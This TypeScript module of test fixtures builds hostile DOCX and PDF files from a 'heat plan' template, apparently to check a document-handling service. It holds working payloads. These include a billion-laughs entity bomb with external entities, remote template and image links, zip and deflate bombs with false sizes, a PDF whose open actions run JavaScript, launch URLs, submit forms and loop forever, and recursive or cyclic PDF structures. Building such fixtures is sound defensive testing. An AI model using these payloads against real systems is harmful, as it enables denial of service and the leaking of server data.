import { readFile } from 'node:fs/promises';
import { resolve } from 'node:path';
import { deflateSync } from 'node:zlib';
import JSZip from 'jszip';
import { PDFDocument, PDFName, PDFString } from 'pdf-lib';

/** Files that anybody could send. The ones made of the heat plan can be read as a note for the rest. */
const note = (form: 'docx' | 'pdf') => readFile(resolve(__dirname, 'files', `heat-plan-empty.${form}`));

/** The heat plan as docx with its parts changed; a part that it does not have starts empty. */
export async function docxWith(parts: Record<string, (xml: string) => string>): Promise<Uint8Array> {
  const zip = await JSZip.loadAsync(await note('docx'));
  for (const [name, change] of Object.entries(parts)) {
    zip.file(name, change((await zip.file(name)?.async('string')) ?? ''));
  }
  return zip.generateAsync({ type: 'uint8array', compression: 'DEFLATE' });
}

/** Adds that many paragraphs at its end: few bytes, much work. */
export function docxWithParagraphs(count: number, text: string): Promise<Uint8Array> {
  const paragraphs = `<w:p><w:r><w:t>${text}</w:t></w:r></w:p>`.repeat(count);
  return docxWith({ 'word/document.xml': (xml) => xml.replace('</w:body>', `${paragraphs}</w:body>`) });
}

/** Entities that become a thousand million words, and others that are to be fetched. */
export function docxWithEntities(...addresses: string[]): Promise<Uint8Array> {
  const laughs = Array.from({ length: 9 }, (_, level) => `<!ENTITY e${level + 1} "${`&e${level};`.repeat(10)}">`);
  const external = addresses.map((address, index) => `<!ENTITY x${index} SYSTEM "${address}">`);
  const doctype = `<!DOCTYPE w:document [<!ENTITY e0 "haha ">${laughs.join('')}${external.join('')}]>`;
  const used = `&e9;${addresses.map((_, index) => `&x${index};`).join('')}`;
  return docxWith({
    'word/document.xml': (xml) =>
      xml
        .replace(/<w:document/, `${doctype}<w:document`)
        .replace('<w:body>', `<w:body><w:p><w:r><w:t>${used}</w:t></w:r></w:p>`),
  });
}

const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

/** A template and a picture that stand elsewhere. */
export function docxWithLinksTo(address: string): Promise<Uint8Array> {
  const link = (id: string, type: string) =>
    `<Relationship Id="${id}" Type="${office}/${type}" Target="${address}" TargetMode="External"/>`;
  const picture = `<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:blipFill><a:blip xmlns:r="${office}" r:link="rIdPicture"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`;
  return docxWith({
    'word/document.xml': (xml) => xml.replace('</w:body>', `${picture}</w:body>`),
    'word/_rels/document.xml.rels': (xml) =>
      xml.replace('</Relationships>', `${link('rIdPicture', 'image')}</Relationships>`),
    'word/_rels/settings.xml.rels': () =>
      `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${link('rId1', 'attachedTemplate')}</Relationships>`,
  });
}

/** A part that unpacks to 30 MB and says that it is ten bytes. */
export async function docxThatLies(): Promise<Uint8Array> {
  const bytes = Buffer.from(
    await new JSZip()
      .file('word/document.xml', ' '.repeat(30 * 1024 * 1024))
      .generateAsync({ type: 'uint8array', compression: 'DEFLATE' }),
  );
  // The size before packing, in a zip's local header (PK 3 4) and in its central directory (PK 1 2).
  for (const [mark, offset] of [
    ['504b0304', 22],
    ['504b0102', 24],
  ] as const) {
    const sign = Buffer.from(mark, 'hex');
    for (let at = bytes.indexOf(sign); at >= 0; at = bytes.indexOf(sign, at + 1)) bytes.writeUInt32LE(10, at + offset);
  }
  return bytes;
}

/** The heat plan as pdf that runs a script, follows links and submits forms when it is opened, and has a file inside. */
export async function pdfThatActs(address: string): Promise<Uint8Array> {
  const pdf = await PDFDocument.load(await note('pdf'));
  const { context, catalog } = pdf;
  const url = PDFString.of(address);
  const script = { S: 'JavaScript', JS: PDFString.of(`app.launchURL("${address}"); while (true);`) };
  const submit = { S: 'SubmitForm', F: { FS: 'URL', F: url } };
  catalog.set(PDFName.of('OpenAction'), context.obj({ ...script, Next: [{ S: 'URI', URI: url }, submit] }));
  catalog.set(PDFName.of('AA'), context.obj({ WC: script }));
  pdf.getPage(0).node.set(PDFName.of('AA'), context.obj({ O: script }));
  await pdf.attach(await docxThatLies(), 'bijlage.docx');
  return pdf.save();
}

/** Ten thousand million texts: a form that shows another ten times, which shows another ten times. */
export async function pdfWithoutEnd(): Promise<Uint8Array> {
  const pdf = await PDFDocument.create();
  const { context } = pdf;
  const form = (content: string, resources: object) =>
    context.register(
      context.stream(content, {
        Type: 'XObject',
        Subtype: 'Form',
        BBox: [0, 0, 9, 9],
        Resources: context.obj({ ...resources }),
      }),
    );
  const font = context.obj({ Type: 'Font', Subtype: 'Type1', BaseFont: 'Helvetica' });
  let ref = form('BT /F 9 Tf (a) Tj ET', { Font: { F: font } });
  for (let level = 0; level < 10; level += 1) ref = form('/X Do '.repeat(10), { XObject: { X: ref } });
  return withContent(pdf, context.register(context.stream('/X Do')), { XObject: { X: ref } });
}

/** A page whose content unpacks to that many bytes, and shows nothing. */
export async function pdfThatUnpacksTo(bytes: number): Promise<Uint8Array> {
  const pdf = await PDFDocument.create();
  const packed = deflateSync(Buffer.alloc(bytes, ' '), { level: 1 });
  return withContent(pdf, pdf.context.register(pdf.context.stream(packed, { Filter: 'FlateDecode' })), {});
}

/** A tree of pages that holds itself. */
export async function pdfInCircles(): Promise<Uint8Array> {
  const pdf = await PDFDocument.create();
  const root = pdf.catalog.Pages();
  pdf.addPage();
  root.set(PDFName.of('Kids'), pdf.context.obj([pdf.catalog.get(PDFName.of('Pages')) ?? null]));
  root.set(PDFName.of('Count'), pdf.context.obj(200));
  return pdf.save();
}

/** A list of two thousand million objects, of which none follows. */
export function pdfWithHugeList(): Uint8Array {
  const objects = '1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n';
  const start = `%PDF-1.7\n${objects}`;
  const trailer = 'trailer<</Size 2000000000/Root 1 0 R>>';
  return Buffer.from(`${start}xref\n0 2000000000\n${trailer}\nstartxref\n${start.length}\n%%EOF`);
}

type Ref = ReturnType<PDFDocument['context']['register']>;

function withContent(pdf: PDFDocument, content: Ref, resources: object): Promise<Uint8Array> {
  const { node } = pdf.addPage();
  node.set(PDFName.of('Contents'), content);
  node.set(PDFName.of('Resources'), pdf.context.obj({ ...resources }));
  return pdf.save();
}
